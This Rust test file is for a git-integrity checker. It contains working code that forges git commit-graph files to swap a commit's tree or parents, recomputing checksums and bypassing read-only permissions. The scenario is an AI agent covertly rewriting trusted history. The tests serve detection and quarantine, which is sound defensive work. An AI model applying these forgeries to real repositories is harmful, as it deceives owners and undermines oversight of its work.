//! Forged commit-graph (rule GW-OBJ-002), end to end on every git of the machine. git takes
//! a commit's root tree and parents from the commit-graph without checking them against the
//! commit object; the agent can write `objects/info/`, so it rewrites the graph so that a
//! commit of the owner's trusted history names another tree (or other parents).
//!
//! Every attack case first fires under plain git (the positive control: the revision walk's
//! `git log -1 --format=%T|%P <commit>` and `log -p` answer what the forged graph says;
//! `rev-parse <commit>^{tree}` parses the object and is not fooled), then `check` reports
//! `commit_graph_forged` (exit 1) and `check --restore` sets the graph aside into the
//! quarantine, after which git answers from the commit objects again. Honest controls
//! (`commit-graph write`, `--split` chains, `gc`, a fetch with `fetch.writeCommitGraph`)
//! stay clean.

mod common;

use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

struct W {
    w: common::World,
    git: PathBuf,
}

impl W {
    /// `proj/`: main with commit one (`f` = "hello") and commit two (`g` added); branch
    /// `side` at commit one. Not pinned.
    fn new(git: &Path) -> W {
        let w = common::World {
            tmp: tempfile::tempdir().unwrap(),
        };
        std::fs::create_dir_all(w.home()).unwrap();
        std::fs::write(w.home().join(".gitconfig"), "").unwrap();
        std::fs::create_dir_all(w.root().join("state")).unwrap();
        let me = W {
            w,
            git: git.to_path_buf(),
        };
        let m = me.w.main();
        me.ok(&me.w.root(), &["init", "-q", "proj"]);
        std::fs::write(m.join("f"), "hello\n").unwrap();
        me.ok(&m, &["add", "f"]);
        me.ok(&m, &["commit", "-q", "-m", "one"]);
        me.ok(&m, &["branch", "side"]);
        std::fs::write(m.join("g"), "other\n").unwrap();
        me.ok(&m, &["add", "g"]);
        me.ok(&m, &["commit", "-q", "-m", "two"]);
        me
    }

    fn pin_out(&self, extra: &[&str]) -> std::process::Output {
        let st = self.w.state();
        let mut a = vec!["pin", "--state", st.to_str().unwrap()];
        a.extend_from_slice(extra);
        let m = self.w.main();
        a.push(m.to_str().unwrap());
        self.w.wt_check(&a)
    }

    fn pin(&self) {
        let out = self.pin_out(&[]);
        assert!(
            out.status.success(),
            "pin: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    fn ok(&self, dir: &Path, args: &[&str]) -> String {
        let mut c = Command::new(&self.git);
        self.w.env(&mut c);
        c.arg("-C")
            .arg(dir)
            .args([
                "-c",
                "init.defaultBranch=main",
                "-c",
                "protocol.file.allow=always",
            ])
            .args(args);
        let out = c.output().unwrap();
        assert!(
            out.status.success(),
            "{} {args:?}: {}",
            self.git.display(),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    }

    fn ok_stdin(&self, dir: &Path, args: &[&str], input: &str) -> String {
        use std::io::Write;
        let mut c = Command::new(&self.git);
        self.w.env(&mut c);
        let mut ch = c
            .arg("-C")
            .arg(dir)
            .args(args)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        ch.stdin
            .take()
            .unwrap()
            .write_all(format!("{input}\n").as_bytes())
            .unwrap();
        let out = ch.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    }

    fn rev(&self, r: &str) -> String {
        self.ok(&self.w.main(), &["rev-parse", r])
    }

    /// The root tree git's revision walk takes for `c` (from the graph when it has one;
    /// `rev-parse c^{tree}` parses the object and is not fooled).
    fn walk_tree(&self, c: &str) -> String {
        self.ok(&self.w.main(), &["log", "-1", "--format=%T", c])
    }

    /// The parents git's revision walk takes for `c`.
    fn walk_parents(&self, c: &str) -> String {
        self.ok(&self.w.main(), &["log", "-1", "--format=%P", c])
    }

    fn info(&self) -> PathBuf {
        self.w.git_dir().join("objects/info")
    }

    fn check(&self, restore: bool) -> (i32, Vec<serde_json::Value>) {
        self.w.check(restore)
    }

    /// A tree the agent made: `f` = "evil\n".
    fn evil_tree(&self) -> String {
        let m = self.w.main();
        let blob = {
            let p = self.w.root().join("evil");
            std::fs::write(&p, "evil\n").unwrap();
            self.ok(&m, &["hash-object", "-w", p.to_str().unwrap()])
        };
        let mut c = Command::new(&self.git);
        self.w.env(&mut c);
        use std::io::Write;
        let mut ch = c
            .arg("-C")
            .arg(&m)
            .arg("mktree")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        ch.stdin
            .take()
            .unwrap()
            .write_all(format!("100644 blob {blob}\tf\n").as_bytes())
            .unwrap();
        let out = ch.wait_with_output().unwrap();
        assert!(out.status.success());
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    }
}

// ---------------------------------------------------------------------------------------
// a small commit-graph editor (what the agent would write)

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len() / 2)
        .map(|i| u8::from_str_radix(&s[2 * i..2 * i + 2], 16).unwrap())
        .collect()
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

fn chunks(d: &[u8]) -> HashMap<[u8; 4], (usize, usize)> {
    let n = d[6] as usize;
    let mut m = HashMap::new();
    for c in 0..n {
        let at = 8 + c * 12;
        let id: [u8; 4] = d[at..at + 4].try_into().unwrap();
        let off = u64::from_be_bytes(d[at + 4..at + 12].try_into().unwrap()) as usize;
        let next = u64::from_be_bytes(d[at + 16..at + 24].try_into().unwrap()) as usize;
        m.insert(id, (off, next));
    }
    m
}

/// Lexicographic index of `oid` in the graph `d`.
fn index_of(d: &[u8], oid: &str) -> usize {
    let (o, e) = chunks(d)[b"OIDL"];
    let want = unhex(oid);
    (0..(e - o) / 20)
        .find(|i| d[o + i * 20..o + i * 20 + 20] == want[..])
        .unwrap_or_else(|| panic!("{oid} not in the graph"))
}

fn cdat(d: &[u8], i: usize) -> usize {
    chunks(d)[b"CDAT"].0 + i * 36
}

/// Recompute the checksum trailer (what a careful forger does).
fn fix_trailer(d: &mut [u8]) {
    let n = d.len() - 20;
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("x");
    std::fs::write(&p, &d[..n]).unwrap();
    let out = Command::new("sha1sum").arg(&p).output().unwrap();
    let h = String::from_utf8(out.stdout).unwrap();
    d[n..].copy_from_slice(&unhex(&h[..40]));
}

/// Replace a read-only file's bytes as the agent would (`chmod u+w`, write, `chmod a-w`).
fn overwrite(p: &Path, bytes: &[u8]) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(p, bytes).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o444)).unwrap();
}

fn forged(events: &[serde_json::Value]) -> Vec<&serde_json::Value> {
    events
        .iter()
        .filter(|e| e["event"] == "commit_graph_forged")
        .collect()
}

/// Point `commit`'s root tree in the single graph file at `tree`, checksum recomputed.
fn forge_tree(w: &W, commit: &str, tree: &str) {
    let p = w.info().join("commit-graph");
    let mut d = std::fs::read(&p).unwrap();
    let i = index_of(&d, commit);
    let at = cdat(&d, i);
    d[at..at + 20].copy_from_slice(&unhex(tree));
    fix_trailer(&mut d);
    overwrite(&p, &d);
}

/// Check reports exactly one forged graph with `field`, exit 1; `--restore` moves `moved`
/// files aside (counted), exit 1; a second check is clean.
fn report_and_restore(w: &W, field: &str, commit: Option<&str>, moved: usize) {
    let (code, ev) = w.check(false);
    let f = forged(&ev);
    assert_eq!(code, 1, "{ev:?}");
    assert_eq!(f.len(), 1, "{ev:?}");
    assert_eq!(f[0]["rule"], "GW-OBJ-002");
    assert_eq!(f[0]["field"], field, "{:?}", f[0]);
    if let Some(c) = commit {
        assert_eq!(f[0]["commit"], c, "{:?}", f[0]);
    }
    assert_eq!(f[0]["action"], "report");
    let (code, ev) = w.check(true);
    assert_eq!(code, 1, "{ev:?}");
    let f = forged(&ev);
    assert_eq!(f[0]["action"], "quarantined", "{ev:?}");
    assert_eq!(
        f[0]["quarantine"].as_array().unwrap().len(),
        moved,
        "{:?}",
        f[0]
    );
    for q in f[0]["quarantine"].as_array().unwrap() {
        assert!(
            Path::new(q.as_str().unwrap()).symlink_metadata().is_ok(),
            "{q}"
        );
    }
    let (code, ev) = w.check(false);
    assert_eq!(code, 0, "after the restore: {ev:?}");
}

// ---------------------------------------------------------------------------------------
// attacks

/// The repro of the hole: the owner's graph (written before the pin) is rewritten so that
/// `side` (commit one) names the agent's tree. git reads it; check finds it; restore sets it
/// aside and git reads the commit object's tree again.
#[test]
fn a_forged_root_tree_is_reported_and_set_aside() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        assert_eq!(w.check(false).0, 0, "honest, as pinned ({})", g.display());
        let one = w.rev("side");
        let honest = w.rev("side^{tree}");
        let evil = w.evil_tree();
        forge_tree(&w, &one, &evil);
        // Positive control: git takes the forged tree (and the file it writes from it).
        assert_eq!(
            w.walk_tree("side"),
            evil,
            "{}: git ignored the graph",
            g.display()
        );
        // What `log -p` shows (and `cherry-pick` applies) is the agent's content.
        assert!(w
            .ok(&m, &["log", "-1", "-p", "--format=", "side"])
            .contains("+evil"));
        report_and_restore(&w, "tree", Some(&one), 1);
        assert!(!w.info().join("commit-graph").exists());
        assert_eq!(w.walk_tree("side"), honest, "{}", g.display());
        assert!(w
            .ok(&m, &["log", "-1", "-p", "--format=", "side"])
            .contains("+hello"));
    }
}

/// A forged graph at pin refuses the pin (exit 1, naming the rule); with `--accept-armed`
/// the pin is written but the graph is not recorded, so check still reports it.
#[test]
fn a_forged_graph_at_pin_refuses_the_pin() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        let one = w.rev("side");
        let evil = w.evil_tree();
        forge_tree(&w, &one, &evil);
        assert_eq!(w.walk_tree("side"), evil);
        let out = w.pin_out(&[]);
        assert_eq!(out.status.code(), Some(1), "{}", g.display());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("GW-OBJ-002") && err.contains(&one), "{err}");
        let out = w.pin_out(&["--accept-armed"]);
        assert!(out.status.success());
        let (code, ev) = w.check(false);
        assert_eq!(code, 1, "{ev:?}");
        assert_eq!(forged(&ev).len(), 1);
    }
}

/// Forged parents: commit two made a root (its parent field set to "none"). `git rev-list`
/// walks one commit instead of two.
#[test]
fn forged_parents_are_reported() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        let two = w.rev("main");
        let p = w.info().join("commit-graph");
        let mut d = std::fs::read(&p).unwrap();
        let at = cdat(&d, index_of(&d, &two));
        d[at + 20..at + 24].copy_from_slice(&0x7000_0000u32.to_be_bytes());
        fix_trailer(&mut d);
        overwrite(&p, &d);
        assert_eq!(
            w.ok(&m, &["rev-list", "--count", "main"]),
            "1",
            "{}",
            g.display()
        );
        report_and_restore(&w, "parents", Some(&two), 1);
        assert_eq!(w.ok(&m, &["rev-list", "--count", "main"]), "2");
    }
}

/// An octopus merge's third parent (an `EDGE` entry) pointed at another commit.
#[test]
fn a_forged_octopus_edge_is_reported() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        for b in ["b1", "b2"] {
            w.ok(&m, &["checkout", "-q", "-b", b, "side"]);
            std::fs::write(m.join(b), b).unwrap();
            w.ok(&m, &["add", b]);
            w.ok(&m, &["commit", "-q", "-m", b]);
        }
        w.ok(&m, &["checkout", "-q", "main"]);
        w.ok(&m, &["merge", "-q", "--no-edit", "b1", "b2"]);
        let merge = w.rev("main");
        let b2 = w.rev("b2");
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        let p = w.info().join("commit-graph");
        let mut d = std::fs::read(&p).unwrap();
        let (e0, e1) = chunks(&d)[b"EDGE"];
        assert_eq!(e1 - e0, 8, "one octopus: two EDGE entries");
        // The last entry (b2) now names `side` (commit one), the last-edge bit kept.
        let one = w.rev("side");
        let pos = index_of(&d, &one) as u32;
        d[e0 + 4..e0 + 8].copy_from_slice(&(0x8000_0000u32 | pos).to_be_bytes());
        fix_trailer(&mut d);
        overwrite(&p, &d);
        let p1 = w.rev("main^1");
        let b1 = w.rev("b1");
        assert_eq!(
            w.walk_parents("main"),
            format!("{p1} {b1} {one}"),
            "{}: git ignored the EDGE chunk",
            g.display()
        );
        report_and_restore(&w, "parents", Some(&merge), 1);
        assert_eq!(w.walk_parents("main"), format!("{p1} {b1} {b2}"));
    }
}

/// A split chain whose second layer names the agent's tree for commit two; the layer is
/// renamed after its new checksum and the chain file rewritten, as git would have named it.
#[test]
fn a_forgery_in_a_chain_layer_is_reported() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        // Layer 0: commit one only (`--stdin-commits`); layer 1: commit two.
        w.ok_stdin(
            &m,
            &["commit-graph", "write", "--split", "--stdin-commits"],
            &w.rev("side"),
        );
        w.ok(
            &m,
            &["commit-graph", "write", "--reachable", "--split=no-merge"],
        );
        let dir = w.info().join("commit-graphs");
        let chain = dir.join("commit-graph-chain");
        let lines: Vec<String> = std::fs::read_to_string(&chain)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect();
        assert_eq!(lines.len(), 2, "{}: two layers", g.display());
        w.pin();
        assert_eq!(w.check(false).0, 0);
        let two = w.rev("main");
        let evil = w.evil_tree();
        let old = dir.join(format!("graph-{}.graph", lines[1]));
        let mut d = std::fs::read(&old).unwrap();
        let at = cdat(&d, index_of(&d, &two));
        d[at..at + 20].copy_from_slice(&unhex(&evil));
        fix_trailer(&mut d);
        let name = hex(&d[d.len() - 20..]);
        std::fs::remove_file(&old).unwrap();
        std::fs::write(dir.join(format!("graph-{name}.graph")), &d).unwrap();
        overwrite(&chain, format!("{}\n{name}\n", lines[0]).as_bytes());
        assert_eq!(
            w.walk_tree("main"),
            evil,
            "{}: git ignored the layer",
            g.display()
        );
        // The chain file and both layers go aside.
        report_and_restore(&w, "tree", Some(&two), 3);
        assert_ne!(w.walk_tree("main"), evil);
    }
}

/// A layer rewritten in place without a new checksum (git does not check it when it loads
/// the graph): reported as malformed.
#[test]
fn a_layer_with_a_stale_checksum_is_reported() {
    let g = common::git_bin();
    let w = W::new(&g);
    let m = w.w.main();
    w.ok(&m, &["commit-graph", "write", "--reachable", "--split"]);
    w.pin();
    let dir = w.info().join("commit-graphs");
    let name = std::fs::read_to_string(dir.join("commit-graph-chain")).unwrap();
    let p = dir.join(format!("graph-{}.graph", name.trim()));
    let mut d = std::fs::read(&p).unwrap();
    let one = w.rev("side");
    let evil = w.evil_tree();
    let at = cdat(&d, index_of(&d, &one));
    d[at..at + 20].copy_from_slice(&unhex(&evil));
    overwrite(&p, &d);
    assert_eq!(
        w.walk_tree("side"),
        evil,
        "git reads the stale-checksum layer"
    );
    report_and_restore(&w, "structure", None, 2);
}

/// A truncated graph (git ignores it, or dies reading it): malformed.
#[test]
fn a_truncated_graph_is_reported() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        assert_eq!(w.check(false).0, 0);
        let p = w.info().join("commit-graph");
        let d = std::fs::read(&p).unwrap();
        overwrite(&p, &d[..d.len() / 2]);
        report_and_restore(&w, "structure", None, 1);
    }
}

/// The graph replaced by a link to a forged copy (git follows it), or by a FIFO (git's
/// open blocks).
#[test]
fn a_graph_that_is_a_link_or_a_fifo_is_reported() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        let p = w.info().join("commit-graph");
        let one = w.rev("side");
        let evil = w.evil_tree();
        forge_tree(&w, &one, &evil);
        let elsewhere = w.w.root().join("elsewhere.graph");
        std::fs::rename(&p, &elsewhere).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &p).unwrap();
        assert_eq!(
            w.walk_tree("side"),
            evil,
            "{}: git follows the link",
            g.display()
        );
        report_and_restore(&w, "file", None, 1);
        assert!(elsewhere.exists(), "the link's target is left alone");
        // A FIFO (git would hang: not run). The special-file sweep reports it too, and the
        // commit scan is skipped (exit 2); this check names it as a graph.
        nix::unistd::mkfifo(&p, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
        let (code, ev) = w.check(false);
        assert_ne!(code, 0, "{ev:?}");
        assert_eq!(forged(&ev)[0]["change"], "not-a-file", "{ev:?}");
        w.check(true);
        assert!(p.symlink_metadata().is_err(), "the FIFO was set aside");
        assert_eq!(w.check(false).0, 0);
    }
}

/// A chain folder swapped for a link to a folder holding a forged chain.
#[test]
fn a_chain_folder_that_is_a_link_is_reported() {
    let g = common::git_bin();
    let w = W::new(&g);
    let m = w.w.main();
    w.ok(&m, &["commit-graph", "write", "--reachable", "--split"]);
    w.pin();
    let dir = w.info().join("commit-graphs");
    let away = w.w.root().join("away");
    std::fs::rename(&dir, &away).unwrap();
    std::os::unix::fs::symlink(&away, &dir).unwrap();
    report_and_restore(&w, "file", None, 1);
}

/// The chain file rewritten to list only the upper layer: git loads it as a base layer
/// (its `BASE` chunk is not checked at position 0) and resolves its parent positions
/// against the wrong commits. The layer files are unchanged; the chain's structure is not
/// what git wrote.
#[test]
fn a_chain_file_that_drops_a_base_layer_is_reported() {
    let g = common::git_bin();
    let w = W::new(&g);
    let m = w.w.main();
    w.ok_stdin(
        &m,
        &["commit-graph", "write", "--split", "--stdin-commits"],
        &w.rev("side"),
    );
    w.ok(
        &m,
        &["commit-graph", "write", "--reachable", "--split=no-merge"],
    );
    let chain = w.info().join("commit-graphs/commit-graph-chain");
    let text = std::fs::read_to_string(&chain).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    w.pin();
    assert_eq!(w.check(false).0, 0, "honest, as pinned");
    overwrite(&chain, format!("{}\n", lines[1]).as_bytes());
    report_and_restore(&w, "structure", None, 2);
}

// ---------------------------------------------------------------------------------------
// honest work

/// Honest graph writes during the session: `commit-graph write` (with Bloom filters),
/// `--split` chains (merged and not), `gc`, and a fetch with `fetch.writeCommitGraph`: no
/// finding on either git. Each step changes the graph files (so each is verified).
#[test]
fn honest_graph_writes_stay_clean() {
    for g in common::gits() {
        let w = W::new(&g);
        let m = w.w.main();
        let root = w.w.root();
        w.ok(&m, &["commit-graph", "write", "--reachable"]);
        w.pin();
        let mut n = 0;
        let mut commit = |w: &W| {
            n += 1;
            std::fs::write(m.join("g"), format!("{n}\n")).unwrap();
            w.ok(&m, &["commit", "-q", "-am", &format!("c{n}")]);
        };
        let steps: &[&[&str]] = &[
            &["commit-graph", "write", "--reachable", "--changed-paths"],
            &["commit-graph", "write", "--reachable", "--split"],
            &["commit-graph", "write", "--reachable", "--split=no-merge"],
            &[
                "commit-graph",
                "write",
                "--reachable",
                "--split",
                "--changed-paths",
            ],
            &["commit-graph", "write", "--reachable", "--split=replace"],
            &["-c", "gc.writeCommitGraph=true", "gc", "-q"],
        ];
        for s in steps {
            commit(&w);
            w.ok(&m, s);
            let (code, ev) = w.check(false);
            assert_eq!(code, 0, "{} {s:?}: {ev:?}", g.display());
        }
        // A fetch that writes the graph: new commits in a clone, fetched back.
        w.ok(&root, &["clone", "-q", m.to_str().unwrap(), "up"]);
        let up = root.join("up");
        std::fs::write(up.join("u"), "u\n").unwrap();
        w.ok(&up, &["add", "u"]);
        w.ok(&up, &["commit", "-q", "-m", "up"]);
        w.ok(
            &m,
            &[
                "-c",
                "fetch.writeCommitGraph=true",
                "fetch",
                "-q",
                up.to_str().unwrap(),
                "main:refs/remotes/up/main",
            ],
        );
        let (code, ev) = w.check(false);
        assert_eq!(code, 0, "{} fetch: {ev:?}", g.display());
        // Pin again (chain of trust) and check after one more split write.
        w.pin();
        commit(&w);
        w.ok(&m, &["commit-graph", "write", "--reachable", "--split"]);
        let (code, ev) = w.check(false);
        assert_eq!(code, 0, "{} after a re-pin: {ev:?}", g.display());
    }
}

// ---------------------------------------------------------------------------------------
// real repositories

fn realrepos() -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/realrepos");
    assert!(
        dir.is_dir(),
        "{}: missing; this test needs the shared bundles (CI=true makes this a failure, not a skip)",
        dir.display()
    );
    dir
}

/// Each real bundle cloned, `commit-graph write --reachable --changed-paths`, pinned (every
/// commit verified: no record yet), checked (clean), then a split layer written on top and
/// checked again: no finding on either git. Prints the pin's time (the full verification).
#[test]
#[cfg_attr(
    gitward_no_realrepos,
    ignore = "../shared/realrepos is missing (CI=true makes this a failure)"
)]
fn real_histories_verify_clean() {
    let dir = realrepos();
    for g in common::gits() {
        for b in ["ripgrep", "pre-commit"] {
            let w = W {
                w: common::World {
                    tmp: tempfile::tempdir().unwrap(),
                },
                git: g.clone(),
            };
            std::fs::create_dir_all(w.w.home()).unwrap();
            std::fs::write(w.w.home().join(".gitconfig"), "").unwrap();
            std::fs::create_dir_all(w.w.root().join("state")).unwrap();
            let bundle = dir.join(format!("{b}.bundle"));
            w.ok(
                &w.w.root(),
                &[
                    "clone",
                    "-q",
                    "--no-checkout",
                    bundle.to_str().unwrap(),
                    "proj",
                ],
            );
            let m = w.w.main();
            w.ok(
                &m,
                &["commit-graph", "write", "--reachable", "--changed-paths"],
            );
            let t = std::time::Instant::now();
            w.pin();
            let took = t.elapsed();
            let n = w.ok(&m, &["rev-list", "--all", "--count"]);
            eprintln!(
                "{} {b}: pin verified {n} commits in {:.0} ms",
                g.display(),
                took.as_secs_f64() * 1e3
            );
            let (code, ev) = w.check(false);
            assert_eq!(code, 0, "{} {b}: {ev:?}", g.display());
            // A new commit and a split layer on top: only that layer is verified.
            w.ok(&m, &["commit", "-q", "--allow-empty", "-m", "new"]);
            w.ok(
                &m,
                &[
                    "commit-graph",
                    "write",
                    "--reachable",
                    "--split=no-merge",
                    "--changed-paths",
                ],
            );
            let (code, ev) = w.check(false);
            assert_eq!(code, 0, "{} {b} split: {ev:?}", g.display());
        }
    }
}
